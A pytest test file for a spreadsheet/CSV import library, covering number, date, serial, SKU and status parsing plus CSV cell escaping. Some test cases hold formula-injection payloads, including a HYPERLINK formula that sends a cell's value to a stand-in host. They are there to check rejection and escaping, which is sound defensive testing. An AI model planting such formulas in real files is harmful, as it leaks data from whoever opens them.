import datetime
from decimal import Decimal

import pytest

from imports.csv_safety import csv_safe_cell
from imports.problems import ImportErrorCode, ImportFileError, ValueProblem
from imports.readers import FormulaWithoutValue, open_table
from imports.tests.conftest import case_path, shared_data_path
from imports.values import (
    DateOrder,
    DateOrderDetector,
    NumberStyle,
    NumberStyleDetector,
    bool_parse,
    cell_is_empty,
    currency_parse,
    date_parse,
    datetime_parse,
    decimal_parse,
    excel_serial_to_datetime,
    percent_parse,
    quantity_parse,
    serial_parse,
    sku_parse,
    status_parse,
    text_parse,
)


def problem_of(parse, *args, **kwargs) -> ValueProblem:
    with pytest.raises(ValueProblem) as raised:
        parse(*args, **kwargs)
    return raised.value


def rows_by_number(case: str) -> dict:
    return {row.number: row.cells for row in open_table(case_path(case)).rows_iter()}


# The import cases


def test_decimal_comma_case_values():
    table = open_table(case_path("02"))
    rows = list(table.rows_iter())
    numbers = NumberStyleDetector()
    dates = DateOrderDetector()
    for row in rows:
        for value in (row.cells[1], row.cells[5]):
            numbers.observe(value)
        for value in (row.cells[3], row.cells[4]):
            dates.observe(value)

    style = numbers.decide()
    order = dates.decide()

    assert style.style == NumberStyle.COMMA
    assert style.note is None
    assert order.order == DateOrder.DMY
    assert order.note is None
    assert [decimal_parse(row.cells[1], style.style, places=2) for row in rows] == [
        Decimal("199.00"),
        Decimal("1299.00"),
        Decimal("849.90"),
        Decimal("19.99"),
        Decimal("4.50"),
        Decimal("1049.00"),
    ]
    assert [percent_parse(row.cells[5], style.style) for row in rows] == [
        Decimal(0),
        Decimal("12.5"),
        Decimal("7.5"),
        Decimal(0),
        Decimal(0),
        Decimal(20),
    ]
    assert [date_parse(row.cells[3], order.order) for row in rows] == [
        datetime.date(2024, 6, 1)
    ] * 5 + [datetime.date(2024, 6, 15)]
    assert date_parse(rows[2].cells[4], order.order) == datetime.date(2024, 7, 31)
    assert cell_is_empty(rows[3].cells[4])


def test_scientific_serials_rejected():
    rows = rows_by_number("05")

    problems = {
        number: problem_of(serial_parse, cells[2])
        for number, cells in rows.items()
        if number in (3, 5)
    }
    serials = {
        number: serial_parse(cells[2]) for number, cells in rows.items() if number not in (3, 5)
    }

    assert problems[3].code == ImportErrorCode.SERIAL_SCIENTIFIC
    assert problems[3].message == (
        "Serial 3.56789E+14 lost digits to scientific notation. Export the serial column as "
        "text and import again."
    )
    assert problems[5].code == ImportErrorCode.SERIAL_SCIENTIFIC
    assert serials == {
        2: "353279318891036",
        4: "357323677553922",
        6: "355581987033131",
        7: "350720773572523",
        8: "358727642944835",
    }


def test_numeric_serial_cells_parse():
    rows = rows_by_number("06")

    serials = {number: serial_parse(cells[2]) for number, cells in rows.items() if number != 5}
    problem = problem_of(serial_parse, rows[5][2])

    assert serials == {
        2: "358984206643275",
        3: "352550002954962",
        4: "357159157407050",
        6: "356879366483078",
    }
    assert problem.code == ImportErrorCode.SERIAL_ROUNDED
    assert "more than 15 digits" in problem.message
    assert "Format the serial column as text" in problem.message


def test_excel_dates_case_values():
    table = open_table(case_path("08"))

    received = [date_parse(row.cells[6], date1904=table.date1904) for row in table.rows_iter()]

    assert received == [
        datetime.date(2024, 1, 2),
        datetime.date(2024, 1, 1),
        datetime.date(2024, 1, 2),
        datetime.date(2024, 1, 3),
        datetime.date(2024, 1, 5),
        datetime.date(2024, 1, 6),
    ]


def test_formula_payload_skus_and_names():
    rows = rows_by_number("20")

    names = [text_parse(cells[1], max_length=255) for cells in rows.values()]
    problem = problem_of(sku_parse, rows[4][0])

    assert [sku_parse(cells[0]) for number, cells in rows.items() if number != 4] == [
        "CASE-A15-CLR",
        "CASE-A15-RED",
        "CASE-A15-BLU",
        "CASE-A15-GRN",
        "CASE-A15-BLK",
    ]
    assert problem.code == ImportErrorCode.SKU_INVALID
    assert "@SUM(1+1)" in problem.message
    assert names[1] == '=HYPERLINK("http://example.invalid/?d="&A1,"Open")'
    assert names[5] == "Case, black (=standard)"


def test_formula_prices_case_values():
    rows = rows_by_number("21")

    prices = {number: decimal_parse(rows[number][1], places=2) for number in (2, 3, 4)}
    problems = {number: problem_of(decimal_parse, rows[number][1], places=2) for number in (5, 6)}

    assert prices == {2: Decimal("179.10"), 3: Decimal("251.10"), 4: Decimal("17.99")}
    assert problems[5].code == ImportErrorCode.FORMULA_WITHOUT_VALUE
    assert "=H5*0.9" in problems[5].message
    assert "no saved result" in problems[5].message
    assert "save it there" in problems[5].message
    assert problems[6].code == ImportErrorCode.FORMULA_WITHOUT_VALUE


def test_stock_case_values_parse():
    rows = rows_by_number("01")

    parsed = [
        (
            status_parse(cells[5]),
            quantity_parse(cells[3]),
            decimal_parse(cells[4], places=2),
            date_parse(cells[6]),
        )
        for cells in rows.values()
    ]

    assert parsed[0] == ("in_stock", 1, Decimal("161.40"), datetime.date(2024, 5, 2))
    assert parsed[3][0] == "reserved"
    assert parsed[5][0] == "damaged"
    assert [serial_parse(cells[2]) for cells in rows.values() if cells[2]] == [
        "356465816998392",
        "355837354017804",
        "353065450336017",
    ]


def test_large_case_serials_valid():
    rows = open_table(case_path("23")).rows_iter()

    serials = [serial_parse(row.cells[2]) for row in rows if row.cells[2]]

    assert len(serials) == 13_250
    assert len(set(serials)) == 13_250


def test_online_retail_values_parse():
    table = open_table(shared_data_path("online-retail", "online-retail-head200k.csv"))
    skus = set()

    for row in table.rows_iter():
        skus.add(sku_parse(row.cells[1]))
        quantity_parse(row.cells[3])
        decimal_parse(row.cells[5])

    assert "BANK CHARGES" in skus
    assert "85123A" in skus
    assert "POST" in skus


# Numbers


@pytest.mark.parametrize(
    "value, style, expected",
    [
        ("1.299,00", NumberStyle.COMMA, Decimal("1299.00")),
        ("199,00", NumberStyle.COMMA, Decimal("199.00")),
        ("12,5", NumberStyle.COMMA, Decimal("12.5")),
        ("1 299,50", NumberStyle.COMMA, Decimal("1299.50")),
        ("€ 4,5", NumberStyle.COMMA, Decimal("4.5")),
        ("1,299.00", NumberStyle.POINT, Decimal("1299.00")),
        ("19.99", NumberStyle.POINT, Decimal("19.99")),
        ("1'299.00", NumberStyle.POINT, Decimal("1299.00")),
        ("-2.50", NumberStyle.POINT, Decimal("-2.50")),
        ("+3", NumberStyle.POINT, Decimal("3")),
        (".5", NumberStyle.POINT, Decimal("0.5")),
        ("19.99 $", NumberStyle.POINT, Decimal("19.99")),
        (161.4, NumberStyle.COMMA, Decimal("161.4")),
        (248, NumberStyle.POINT, Decimal(248)),
    ],
)
def test_decimal_parses(value, style, expected):
    assert decimal_parse(value, style) == expected


@pytest.mark.parametrize(
    "value, style, words",
    [
        ("abc", NumberStyle.POINT, "'abc' is not a number. Write digits with a decimal point"),
        ("NaN", NumberStyle.POINT, "'NaN' is not a number"),
        ("inf", NumberStyle.POINT, "'inf' is not a number"),
        (float("nan"), NumberStyle.POINT, "is not a number"),
        (float("inf"), NumberStyle.POINT, "is not a number"),
        ("1.2.3", NumberStyle.POINT, "more than one decimal separator"),
        ("1,2,3", NumberStyle.COMMA, "more than one decimal separator"),
        ("12,5", NumberStyle.POINT, "thousands separator in the wrong place"),
        ("1.5E+3", NumberStyle.POINT, "scientific notation"),
        ("1,,5", NumberStyle.POINT, "thousands separator in the wrong place"),
        (True, NumberStyle.POINT, "'True' is not a number"),
        (datetime.date(2024, 1, 1), NumberStyle.POINT, "'2024-01-01' is not a number"),
    ],
)
def test_decimal_rejects(value, style, words):
    problem = problem_of(decimal_parse, value, style)

    assert problem.code == ImportErrorCode.NUMBER_INVALID
    assert words in problem.message


def test_decimal_rounds_half_up_to_places():
    assert decimal_parse("0.125", places=2) == Decimal("0.13")
    assert decimal_parse(17.991, places=2) == Decimal("17.99")


def test_decimal_too_large_rejected():
    problem = problem_of(decimal_parse, "9" * 40, places=2)

    assert problem.code == ImportErrorCode.NUMBER_INVALID


def test_number_style_comma_from_samples():
    detector = NumberStyleDetector()
    for value in ["199,00", "1.299,00", "0", 161.4, None]:
        detector.observe(value)

    decision = detector.decide()

    assert decision.style == NumberStyle.COMMA
    assert decision.note is None


def test_number_style_point_from_samples():
    detector = NumberStyleDetector()
    for value in ["1,299.00", "19.99", "1,299"]:
        detector.observe(value)

    decision = detector.decide()

    assert decision.style == NumberStyle.POINT
    assert decision.note is None


def test_number_style_ambiguous_note():
    detector = NumberStyleDetector()
    for value in ["1,299", "2,500", "7"]:
        detector.observe(value)

    decision = detector.decide()

    assert decision.style == NumberStyle.POINT
    assert decision.note == (
        "No number in the file shows which decimal separator it uses, so numbers were read "
        "with a decimal point: 1,299 is 1299."
    )


def test_number_style_without_samples_is_point():
    decision = NumberStyleDetector().decide()

    assert decision.style == NumberStyle.POINT
    assert decision.note is None


def test_number_style_conflict_names_examples():
    detector = NumberStyleDetector()
    for value in ["19.99", "12,5", "4.50"]:
        detector.observe(value)

    with pytest.raises(ImportFileError) as raised:
        detector.decide()

    assert raised.value.code == ImportErrorCode.NUMBER_STYLE_CONFLICT
    assert "(19.99)" in raised.value.message
    assert "(12,5)" in raised.value.message


@pytest.mark.parametrize(
    "value, style, expected",
    [
        ("3", NumberStyle.POINT, 3),
        ("-2", NumberStyle.POINT, -2),
        (1.0, NumberStyle.POINT, 1),
        ("1.0", NumberStyle.POINT, 1),
        ("1,0", NumberStyle.COMMA, 1),
        ("1,000", NumberStyle.POINT, 1000),
        (12, NumberStyle.POINT, 12),
    ],
)
def test_quantity_parses(value, style, expected):
    assert quantity_parse(value, style) == expected


@pytest.mark.parametrize(
    "value, words",
    [
        ("1.5", "Quantity 1.5 is not a whole number. Write whole units."),
        (2.5, "Quantity 2.5 is not a whole number."),
        (358984206643275, "larger than 1,000,000 units"),
        ("ten", "'ten' is not a number"),
    ],
)
def test_quantity_rejects(value, words):
    problem = problem_of(quantity_parse, value)

    assert problem.code == ImportErrorCode.QUANTITY_INVALID
    assert words in problem.message


@pytest.mark.parametrize(
    "value, expected", [("12,5 %", Decimal("12.5")), ("0", Decimal(0)), (100, Decimal(100))]
)
def test_percent_parses(value, expected):
    assert percent_parse(value, NumberStyle.COMMA) == expected


@pytest.mark.parametrize("value", ["101", "-1", "half"])
def test_percent_rejects(value):
    problem = problem_of(percent_parse, value)

    assert problem.code == ImportErrorCode.PERCENT_INVALID


# Dates


@pytest.mark.parametrize(
    "value, order, expected",
    [
        ("2024-01-05", DateOrder.DMY, datetime.date(2024, 1, 5)),
        ("2024-01-05 10:30", DateOrder.MDY, datetime.date(2024, 1, 5)),
        ("01.06.2024", DateOrder.MDY, datetime.date(2024, 6, 1)),
        ("13/05/2024", DateOrder.DMY, datetime.date(2024, 5, 13)),
        ("05/13/2024", DateOrder.MDY, datetime.date(2024, 5, 13)),
        ("5-6-2024", DateOrder.DMY, datetime.date(2024, 6, 5)),
        ("5-6-2024", DateOrder.MDY, datetime.date(2024, 5, 6)),
        (datetime.datetime(2024, 1, 6, 14, 30), DateOrder.DMY, datetime.date(2024, 1, 6)),
        (datetime.date(2024, 1, 2), DateOrder.DMY, datetime.date(2024, 1, 2)),
        (45292, DateOrder.DMY, datetime.date(2024, 1, 1)),
        (45294.75, DateOrder.DMY, datetime.date(2024, 1, 3)),
    ],
)
def test_date_parses(value, order, expected):
    assert date_parse(value, order) == expected


@pytest.mark.parametrize(
    "value, expected",
    [
        ("2024-01-05 10:30", datetime.datetime(2024, 1, 5, 10, 30)),
        ("2024-01-05T10:30:15", datetime.datetime(2024, 1, 5, 10, 30, 15)),
        ("2010-12-01 08:26:00", datetime.datetime(2010, 12, 1, 8, 26)),
        ("1/2/2010 8:26 PM", datetime.datetime(2010, 2, 1, 20, 26)),
        ("1/2/2010 12:05 AM", datetime.datetime(2010, 2, 1, 0, 5)),
        ("2024-01-05", datetime.datetime(2024, 1, 5)),
        (45294.75, datetime.datetime(2024, 1, 3, 18, 0)),
        (45297.60416666666, datetime.datetime(2024, 1, 6, 14, 30)),
    ],
)
def test_datetime_parses_naive(value, expected):
    parsed = datetime_parse(value)

    assert parsed == expected
    assert parsed.tzinfo is None


def test_two_digit_year_is_rejected():
    problem = problem_of(date_parse, "01.06.24")

    assert problem.code == ImportErrorCode.DATE_TWO_DIGIT_YEAR
    assert problem.message == "Date 01.06.24 has a two-digit year. Write the year with four digits."


@pytest.mark.parametrize(
    "value, words",
    [
        ("31.02.2024", "Date 31.02.2024 does not exist"),
        ("2024-01-05 25:00", "invalid time of day"),
        ("2024-01-05T10:00:00+01:00", "has a time zone"),
        ("45292", "looks like a spreadsheet date serial number"),
        ("tomorrow", "'tomorrow' is not a date in a known format"),
        (True, "is not a date"),
        (datetime.time(10, 30), "'10:30:00' is not a date"),
        (-3, "Number -3 is not a date"),
        (60, "29 February 1900"),
        (2958465.99999999, "Number 2958465.99999999 is not a date"),
    ],
)
def test_date_rejects(value, words):
    problem = problem_of(date_parse, value)

    assert problem.code == ImportErrorCode.DATE_INVALID
    assert words in problem.message


def test_excel_serials_around_1900_leap_day():
    assert excel_serial_to_datetime(1) == datetime.datetime(1900, 1, 1)
    assert excel_serial_to_datetime(59) == datetime.datetime(1900, 2, 28)
    assert excel_serial_to_datetime(61) == datetime.datetime(1900, 3, 1)


def test_excel_serials_in_1904_system():
    assert date_parse(0, date1904=True) == datetime.date(1904, 1, 1)
    assert date_parse(43831, date1904=True) == datetime.date(2024, 1, 2)
    assert datetime_parse(43832.75, date1904=True) == datetime.datetime(2024, 1, 3, 18, 0)


def test_date_order_day_first_from_samples():
    detector = DateOrderDetector()
    for value in ["01/02/2024", "13/02/2024", "2024-05-01", 45292]:
        detector.observe(value)

    decision = detector.decide()

    assert decision.order == DateOrder.DMY
    assert decision.note is None


def test_date_order_month_first_from_samples():
    detector = DateOrderDetector()
    for value in ["01/02/2024", "02/13/2024 10:00"]:
        detector.observe(value)

    assert detector.decide().order == DateOrder.MDY


def test_date_order_conflict_names_two_values():
    detector = DateOrderDetector()
    for value in ["13/02/2024", "01/02/2024", "02/13/2024"]:
        detector.observe(value)

    with pytest.raises(ImportFileError) as raised:
        detector.decide()

    assert raised.value.code == ImportErrorCode.DATE_ORDER_CONFLICT
    assert "13/02/2024" in raised.value.message
    assert "02/13/2024" in raised.value.message


def test_date_order_default_note():
    detector = DateOrderDetector()
    detector.observe("01/02/2024")

    decision = detector.decide()

    assert decision.order == DateOrder.DMY
    assert decision.note == (
        "No date in the file shows whether the day or the month comes first, so dates were "
        "read day first: 01/02/2024 is 2024-02-01."
    )


def test_dotted_dates_decide_nothing():
    detector = DateOrderDetector()
    for value in ["01.06.2024", "30.06.2024"]:
        detector.observe(value)

    decision = detector.decide()

    assert decision.order == DateOrder.DMY
    assert decision.note is None


# Serials and SKUs


@pytest.mark.parametrize(
    "value, expected",
    [
        ("353279318891036", "353279318891036"),
        (" 3532 7931 8891 036 ", "353279318891036"),
        (358984206643275, "358984206643275"),
        (358984206643275.0, "358984206643275"),
        ("358984206643275.0", "358984206643275"),
        ("R58M123ABCD", "R58M123ABCD"),
        ("SN-2024/07.1", "SN-2024/07.1"),
        (1234, "1234"),
    ],
)
def test_serial_parses(value, expected):
    assert serial_parse(value) == expected


@pytest.mark.parametrize(
    "value, code",
    [
        ("3.56789E+14", ImportErrorCode.SERIAL_SCIENTIFIC),
        ("3,56789E+14", ImportErrorCode.SERIAL_SCIENTIFIC),
        (8.9652901234567e19, ImportErrorCode.SERIAL_ROUNDED),
        (89652901234567000000, ImportErrorCode.SERIAL_ROUNDED),
        (3589842066432.5, ImportErrorCode.SERIAL_ROUNDED),
        ("8965290123456700000.0", ImportErrorCode.SERIAL_ROUNDED),
        ("353279318891037", ImportErrorCode.IMEI_CHECK_DIGIT),
        ("abc", ImportErrorCode.SERIAL_INVALID),
        ("serial with spaces#", ImportErrorCode.SERIAL_INVALID),
        ("X" * 65, ImportErrorCode.SERIAL_INVALID),
        (-5, ImportErrorCode.SERIAL_INVALID),
        (True, ImportErrorCode.SERIAL_INVALID),
    ],
)
def test_serial_rejects(value, code):
    assert problem_of(serial_parse, value).code == code


def test_imei_check_digit_message_names_value():
    problem = problem_of(serial_parse, "353279318891037")

    assert problem.message == (
        "IMEI 353279318891037 has a wrong check digit: for these first 14 digits it is 6. "
        "Check the number for typing errors."
    )


@pytest.mark.parametrize(
    "value, expected",
    [
        ("BANK CHARGES", "BANK CHARGES"),
        ("85123A", "85123A"),
        (" PHN-A15-128-BLK ", "PHN-A15-128-BLK"),
        ("gift_0001_40", "gift_0001_40"),
        ("C#+/.", "C#+/."),
        (85123, "85123"),
        (85123.0, "85123"),
    ],
)
def test_sku_parses(value, expected):
    assert sku_parse(value) == expected


@pytest.mark.parametrize(
    "value, words",
    [
        ("@SUM(1+1)", "SKU '@SUM(1+1)' is invalid. A SKU starts with a letter or digit"),
        ("-2+3", "is invalid"),
        ("=A1", "is invalid"),
        ("A" * 65, "has 65 characters, more than the 64 allowed"),
        ("8.5123E+4", "scientific notation"),
        (1.5, "stored as a number with a fraction"),
        ("Größe", "is invalid"),
    ],
)
def test_sku_rejects(value, words):
    problem = problem_of(sku_parse, value)

    assert problem.code == ImportErrorCode.SKU_INVALID
    assert words in problem.message


# Yes/no, statuses, currencies and text


@pytest.mark.parametrize(
    "value, expected",
    [
        ("yes", True),
        ("No", False),
        ("TRUE", True),
        ("false", False),
        ("1", True),
        ("0", False),
        ("y", True),
        ("N", False),
        ("x", True),
        (1, True),
        (0, False),
        (True, True),
    ],
)
def test_bool_parses(value, expected):
    assert bool_parse(value) is expected


def test_bool_rejects_other_words():
    problem = problem_of(bool_parse, "maybe")

    assert problem.code == ImportErrorCode.BOOL_INVALID
    assert "'maybe' is not a yes/no value" in problem.message


@pytest.mark.parametrize(
    "value, expected",
    [
        ("in_stock", "in_stock"),
        ("available", "in_stock"),
        ("In Stock", "in_stock"),
        ("on hand", "in_stock"),
        ("reserved", "reserved"),
        ("hold", "reserved"),
        ("On-Hold", "reserved"),
        ("damaged", "damaged"),
        ("broken", "damaged"),
        ("Defective", "damaged"),
        ("transferred", "transferred"),
        ("in transit", "transferred"),
        ("SOLD", "sold"),
    ],
)
def test_status_parses_synonyms(value, expected):
    assert status_parse(value) == expected


def test_status_rejects_unknown_word():
    problem = problem_of(status_parse, "lost")

    assert problem.code == ImportErrorCode.STATUS_INVALID
    assert "Status 'lost' is unknown" in problem.message


def test_currency_is_upper_case_code():
    assert currency_parse(" eur ") == "EUR"


@pytest.mark.parametrize("value", ["€", "EURO", "E1R", "ÄÖÜ"])
def test_currency_rejects(value):
    assert problem_of(currency_parse, value).code == ImportErrorCode.CURRENCY_INVALID


def test_text_is_trimmed_and_limited():
    assert text_parse("  Galaxy A15  ", max_length=20) == "Galaxy A15"
    assert text_parse(161.4, max_length=20) == "161.4"
    assert problem_of(text_parse, "x" * 21, max_length=20).code == ImportErrorCode.TEXT_TOO_LONG


# Empty cells and formulas without a value


PARSERS = [
    decimal_parse,
    quantity_parse,
    percent_parse,
    date_parse,
    datetime_parse,
    serial_parse,
    sku_parse,
    bool_parse,
    status_parse,
    currency_parse,
    lambda value: text_parse(value, max_length=10),
]


@pytest.mark.parametrize("parse", PARSERS)
@pytest.mark.parametrize("value", [None, "", "   "])
def test_parsers_reject_empty_cells(parse, value):
    assert problem_of(parse, value).code == ImportErrorCode.VALUE_MISSING


@pytest.mark.parametrize("parse", PARSERS)
def test_parsers_reject_formula_without_value(parse):
    assert (
        problem_of(parse, FormulaWithoutValue("A1*2")).code == ImportErrorCode.FORMULA_WITHOUT_VALUE
    )


@pytest.mark.parametrize(
    "value, expected",
    [
        (None, True),
        ("", True),
        (" \t", True),
        ("0", False),
        (0, False),
        (FormulaWithoutValue(), False),
    ],
)
def test_cell_is_empty(value, expected):
    assert cell_is_empty(value) is expected


# Cells written to CSV files


@pytest.mark.parametrize(
    "value, expected",
    [
        (
            '=HYPERLINK("http://example.invalid/?d="&A1,"Open")',
            '\'=HYPERLINK("http://example.invalid/?d="&A1,"Open")',
        ),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-5", "-5"),
        ("-2.50", "-2.50"),
        ("+1,5", "+1,5"),
        ("Case, black (=standard)", "Case, black (=standard)"),
        (-5, "-5"),
        (None, ""),
        (datetime.date(2024, 1, 2), "2024-01-02"),
    ],
)
def test_csv_safe_cell(value, expected):
    assert csv_safe_cell(value) == expected
